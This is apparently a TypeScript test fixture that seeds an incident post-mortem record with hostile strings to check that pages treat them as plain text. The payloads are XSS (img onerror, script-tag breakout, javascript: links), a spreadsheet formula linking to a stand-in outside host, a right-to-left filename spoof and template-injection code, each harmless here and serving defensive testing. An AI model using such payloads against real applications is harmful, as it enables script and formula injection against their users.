import { fromNow, type WorldSoFar } from '../world-so-far.ts';

const LONG = 'Donaudampfschifffahrtsgesellschaft'.repeat(60).slice(0, 2_000);

/** Texts that a page may not take for anything but text. Each is one that people paste, or one that somebody writes on purpose. */
export const HOSTILE_TEXTS = {
  image: '<img src=x onerror="document.title=1">',
  script: '</script><script>document.title = "taken"</script>',
  link: 'javascript:document.title=1',
  markdown: '[a link](javascript:document.title=1) ![an image](https://elsewhere.example/x.png)',
  rightToLeft: 'הודעה ‮exe.gpj‬ من الفريق الأمني في الليل',
  emoji: '👩🏽‍🚒🔥 🇪🇺 👨‍👩‍👧‍👦 ﷽ Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  formula: '=HYPERLINK("https://elsewhere.example?"&A1;"open") +1 @SUM(A1:A9) -2',
  braces: '{{constructor.constructor("document.title=1")()}} <%= 1 %>',
  long: LONG,
} as const;

/** A record in whose every field somebody wrote what pages stumble over. */
export async function seedHostileRecord(world: WorldSoFar): Promise<void> {
  const { nina, max } = world.people;
  const { image, script, link, markdown, rightToLeft, emoji, formula, braces, long } = HOSTILE_TEXTS;
  const id = await nina.add('/post-mortems', {
    ...{ kind: 'incident', title: `${image} ${rightToLeft} ${emoji}`.slice(0, 250), severity: 'low', tlp: 'CLEAR' },
    ...{ description: `${script}\n${markdown}\n${long}`, beganAt: fromNow(-3, 'days') },
    endedAt: fromNow(-2, 'days'),
  });
  world.records.hostile = id;
  const record = `/post-mortems/${id}`;
  await nina.sections(id, {
    summary: { text: [image, script, link, markdown, rightToLeft, emoji, formula, braces, long].join('\n\n') },
    impact: { description: `${long} ${image}`, services: [formula, long.slice(0, 300)], usersAffected: 0 },
    detection: { how: `${rightToLeft}\n${braces}`, whyNotSooner: `${link} ${emoji}` },
    response: { firstAction: `${formula} ${long}`, tools: script },
  });
  const kinds = ['attacker', 'detection', 'decision', 'action', 'communication'] as const;
  const entries = [image, link, rightToLeft, long, formula].map((what, index) => ({
    ...{ at: fromNow(-50 + index, 'hours'), what, kind: kinds[index] ?? 'action', role: emoji.slice(0, 20) },
  }));
  await nina.must('POST', `${record}/timeline/batch`, { entries });
  const cause = await nina.add(`${record}/root-causes`, {
    ...{ kind: 'technical', statement: `${image} ${long}`, whys: [formula, rightToLeft, braces] },
  });
  await nina.add(`${record}/recommendations`, {
    ...{ title: `${image} ${rightToLeft} ${formula}`.slice(0, 190), why: `${script} ${long}`, kind: 'prevent' },
    ...{ answers: [cause], impact: 1, feasibility: 1, ownerTeam: `${emoji} ${formula}`.slice(0, 90) },
    successCriterion: `${braces} 20 of 20 ${link}`,
    verification: { checks: [{ kind: 'attestation', statement: `${image} ${markdown} ${rightToLeft}` }] },
  });
  const lesson = { statement: `${image} ${long}`, updates: 'policy', document: formula, ownerTeam: rightToLeft };
  await nina.add(`${record}/lessons`, { ...lesson, dueAt: fromNow(3, 'days') });
  await nina.add(`${record}/temporary-measures`, {
    ...{ kind: 'other', what: `${rightToLeft} ${image}`, ownerTeam: emoji, since: fromNow(-2, 'days') },
    until: fromNow(4, 'days'),
  });
  await nina.add(`${record}/notifications`, {
    ...{ regime: 'contract', stage: 'disclosure', recipient: `${image} ${formula}`, dueAt: fromNow(4, 'days') },
  });
  await max.add(`${record}/comments`, { path: 'sections.summary', text: `${image}\n${markdown}\n${long}` });
}
